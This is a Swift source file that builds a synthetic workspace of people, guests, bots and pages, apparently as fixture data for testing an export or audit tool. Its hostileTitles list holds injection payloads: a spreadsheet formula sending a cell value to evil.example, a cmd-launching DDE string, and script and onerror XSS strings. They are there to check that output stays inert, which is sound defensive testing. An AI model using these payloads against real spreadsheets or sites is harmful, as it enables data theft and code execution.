/// The people, bots, pages and places of a synthetic workspace.
struct SampleWorld {
    struct Place {
        var city: String
        var country: String
        var ipPrefix: String
    }

    struct Person {
        var id: String
        var name: String
        var email: String
        /// `owner`, `membership_admin`, `member`, `guest`; bots have `bot`.
        var role: String
        var type: String
        var home: Place
        var ip: String
        var platform: String
    }

    struct Page {
        var id: String
        var title: String
        var audience: Audience
        var teamspace: String
    }

    static let places = [
        Place(city: "Berlin", country: "Germany", ipPrefix: "85.214"),
        Place(city: "München", country: "Germany", ipPrefix: "91.66"),
        Place(city: "Hamburg", country: "Germany", ipPrefix: "82.113"),
        Place(city: "Wien", country: "Austria", ipPrefix: "80.110"),
        Place(city: "Zürich", country: "Switzerland", ipPrefix: "178.197"),
        Place(city: "London", country: "United Kingdom", ipPrefix: "81.2"),
        Place(city: "New York", country: "United States", ipPrefix: "72.229"),
        Place(city: "São Paulo", country: "Brazil", ipPrefix: "177.71"),
    ]
    static let unusualPlace = Place(city: "Lagos", country: "Nigeria", ipPrefix: "105.112")

    static let firstNames = [
        "Anna", "Jürgen", "Sophie", "Lukas", "Özlem", "Maximilian", "Marie", "Jonas", "Zoë", "Felix", "Léa", "Björn",
        "Mia", "Paul", "Chiara", "Ahmed", "Sven", "Hannah", "Noah", "Émilie", "Kai", "Lena", "Tobias", "Aylin",
        "David", "Greta", "Mateo", "Ines", "Yuki", "Olga",
    ]
    static let lastNames = [
        "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Meyer", "Wagner", "Becker", "Schulz", "Hoffmann",
        "Koch", "Bauer", "Richter", "Klein", "Wolf", "Schröder", "Neumann", "Schwarz", "Zimmermann", "Braun",
        "Krüger", "Hofmann", "Hartmann", "Lange", "Yılmaz", "Kowalski", "Rossi", "Dubois", "Tanaka", "Nguyen",
    ]
    static let bots = ["Jira Sync", "Slack Connector", "Zapier", "GitHub Integration", "Opal Access Bot", "Backup Exporter"]
    static let teamspaces = ["Engineering", "Finanzen", "Personal (HR)", "Marketing", "Vertrieb", "Recht & Compliance", "Produkt"]
    static let titleWords = [
        "Roadmap", "Q4", "Budget", "Onboarding", "Richtlinie", "Meeting Notes", "Wiki", "Retro", "Sprint", "Vertrag",
        "Datenschutz", "Incident", "Postmortem", "Launch", "Kundenliste", "Gehälter", "Preisliste", "Architektur",
        "Handbuch", "OKRs", "Hiring Plan", "Lieferanten", "Security", "Audit", "Planung",
    ]

    /// Titles that try to break spreadsheets, HTML and parsers; each must come out inert and intact.
    static let hostileTitles = [
        "=HYPERLINK(\"http://evil.example/steal?c=\"&A1,\"Click me\")",
        "+49 30 1234567 Hotline",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3 Budget Korrektur",
        "<script>document.title='pwned'</script>Quarterly",
        "<img src=x onerror=\"document.title='pwned'\">",
        "javascript:document.title='pwned'",
        "Übersicht Größenänderungen – Straße & Söhne",
        "Q4 Launch 🚀🔥 Party 🎉",
        "מדיניות פרטיות — Privacy policy (RTL)",
        "سياسة الخصوصية",
        "He said \"ship it\", then left; really",
        "Line one\nLine two\r\nLine three",
        "\tTabbed title",
        "_x0041_ looks like an Excel escape",
        "Comma, semicolon; and \"quotes\"",
    ]

    var people: [Person] = []
    var guests: [Person] = []
    var botActors: [Person] = []
    var pages: [Page] = []

    init(peopleCount: Int, pageCount: Int, random: inout SampleRandom) {
        for i in 0..<peopleCount {
            let first = Self.firstNames[i % Self.firstNames.count]
            let last = Self.lastNames[(i / Self.firstNames.count + i * 7) % Self.lastNames.count]
            let place = i % 5 == 0 ? random.pick(Self.places) : Self.places[i % 3]
            let role = i == 0 ? "owner" : i == 1 ? "membership_admin" : i < 4 ? "owner" : "member"
            let mail = Self.asciiMail("\(first).\(last)\(i >= 900 ? String(i) : "")", domain: "example.com", index: i)
            people.append(Person(id: random.uuid(), name: "\(first) \(last)", email: mail, role: role, type: "person", home: place, ip: Self.ip(place, random: &random), platform: random.pick(["web", "web", "mac-desktop", "windows-desktop", "ios"])))
        }
        let guestCount = max(3, peopleCount / 12)
        for i in 0..<guestCount {
            let first = Self.firstNames[(i * 11) % Self.firstNames.count]
            let last = Self.lastNames[(i * 13 + 5) % Self.lastNames.count]
            let place = random.pick(Self.places)
            guests.append(Person(id: random.uuid(), name: "\(first) \(last)", email: Self.asciiMail("\(first).\(last)", domain: "partner-agency.example", index: i), role: "guest", type: "person", home: place, ip: Self.ip(place, random: &random), platform: "web"))
        }
        for name in Self.bots {
            botActors.append(Person(id: random.uuid(), name: name, email: "", role: "bot", type: "bot", home: Self.places[6], ip: "", platform: "api"))
        }
        for i in 0..<pageCount {
            var title: String
            if i < Self.hostileTitles.count {
                title = Self.hostileTitles[i]
            } else if i == pageCount - 1 {
                // Last, so the traffic skew keeps it rare: it still reaches every output.
                title = "Very long page " + String(repeating: "Lorem ipsum dolor sit amet, consetetur sadipscing elitr. ", count: 800)
                title = String(title.prefix(40_000))
            } else {
                title = "\(random.pick(Self.titleWords)) \(random.pick(Self.titleWords)) \(i)"
            }
            let roll = random.unit()
            let audience: Audience = roll < 0.22 ? .private : roll < 0.78 ? .sharedInternally : roll < 0.92 ? .sharedExternally : .sharedToWeb
            pages.append(Page(id: random.uuid(), title: title, audience: audience, teamspace: random.pick(Self.teamspaces)))
        }
    }

    static func ip(_ place: Place, random: inout SampleRandom) -> String {
        "\(place.ipPrefix).\(random.below(250) + 1).\(random.below(250) + 1)"
    }

    /// firstname.lastname with umlauts folded, as mail systems do.
    static func asciiMail(_ local: String, domain: String, index: Int) -> String {
        let map: [Character: String] = ["ü": "ue", "ö": "oe", "ä": "ae", "ß": "ss", "Ö": "Oe", "Ü": "Ue", "é": "e", "É": "E", "ë": "e", "ı": "i", "Ä": "Ae"]
        var out = ""
        for ch in local { out += map[ch] ?? String(ch) }
        return "\(out.lowercased()).\(index)@\(domain)"
    }
}
